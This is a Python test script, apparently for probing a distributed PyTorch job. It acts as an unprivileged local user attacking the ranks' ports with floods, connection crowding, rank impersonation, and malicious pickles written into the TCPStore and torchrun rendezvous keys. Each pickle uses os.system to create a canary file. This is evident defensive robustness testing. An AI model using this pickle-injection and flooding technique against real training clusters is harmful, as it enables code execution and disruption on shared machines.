"""Another user of the machine at the ports of a run's ranks.

    stranger.py HARM PORT...     as the user "nobody" where it is started by root

Makes all `ATTEMPTS` at every port. HARM: a file that appears where somebody reads the stranger's pickle.
"""

import contextlib
import encodings.idna  # noqa: F401 (before "nobody" may not read it)
import os
import pickle
import socket
import struct
import sys
import threading
import time
from base64 import b64encode
from collections.abc import Callable
from datetime import timedelta

from torch.distributed import TCPStore

NOBODY = 65534
SECONDS = 1.0
MOST_BYTES = 64 << 20


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=SECONDS)


def knock(port: int) -> None:
    connect(port).close()


def stay_silent(port: int) -> None:
    with connect(port):
        time.sleep(SECONDS)


def talk(port: int, words: bytes) -> None:
    with connect(port) as connected:
        connected.sendall(words)
        connected.recv(1)


def flood(port: int) -> None:
    until = time.monotonic() + SECONDS
    with connect(port) as connected:
        for _ in range(MOST_BYTES >> 20):
            if time.monotonic() < until:
                connected.sendall(b"x" * (1 << 20))


def crowd(port: int) -> None:
    with contextlib.ExitStack() as stack:
        for _ in range(300):
            stack.enter_context(connect(port))
        time.sleep(SECONDS)


def pose(port: int) -> None:
    """Say what a rank says, without the secret."""
    with connect(port) as connected:
        connected.sendall(struct.pack(">I32s", 1, b"n" * 32))
        connected.recv(64)
        connected.sendall(b"p" * 32)
        connected.sendall(struct.pack(">I32s", 2, b"p" * 32) + b"{}")
        connected.recv(1)


class Harmful:
    """A pickle that makes a file where it is read."""

    def __reduce__(self):
        return os.system, (f"touch {HARM}",)


def write_into_store(port: int) -> None:
    store = TCPStore("127.0.0.1", port, 2, timeout=timedelta(seconds=2), wait_for_workers=False)
    harm = pickle.dumps(Harmful())
    for key in ("lifeline", "heard", "hello/1", "round-1", "handed-1/0", "door"):
        store.set(key, harm)
    store.set("handed-1", "1")


def write_into_rendezvous(port: int) -> None:
    """Write a pickle where torchrun's rendezvous c10d keeps its state, which it reads every few seconds."""
    store = TCPStore("127.0.0.1", port, 2, timeout=timedelta(seconds=2), wait_for_workers=False)
    named = [key for key in store.list_keys() if key.startswith("torch.rendezvous.")]
    for key in named or ["torch.rendezvous.none"]:
        store.set(key, b64encode(pickle.dumps(Harmful())))


ATTEMPTS = {
    "knocks": knock,
    "is silent": stay_silent,
    "sends what is no text": lambda port: talk(port, b"\xff\xfe"),
    "says what ranks said": lambda port: talk(
        port, b"rank 1 on \x1b[31mhere (pid 1)\n." + b"0" * 32 + b" end\n"
    ),
    "sends without end": flood,
    "comes as a crowd": crowd,
    "poses as a rank": pose,
    "writes into the store": write_into_store,
    "writes into the rendezvous": write_into_rendezvous,
}


def attempt(what: Callable[[int], None], port: int) -> None:
    with contextlib.suppress(OSError, RuntimeError):  # whatever comes of it
        what(port)


if __name__ == "__main__":
    HARM, *ports = sys.argv[1:]
    if os.geteuid() == 0:
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    for name, what in ATTEMPTS.items():
        print(name, flush=True)
        tries = [threading.Thread(target=attempt, args=(what, int(port)), daemon=True) for port in ports]
        for each in tries:
            each.start()
        for each in tries:
            each.join(5 * SECONDS)
    os._exit(0)  # torch's store may still wait for an answer
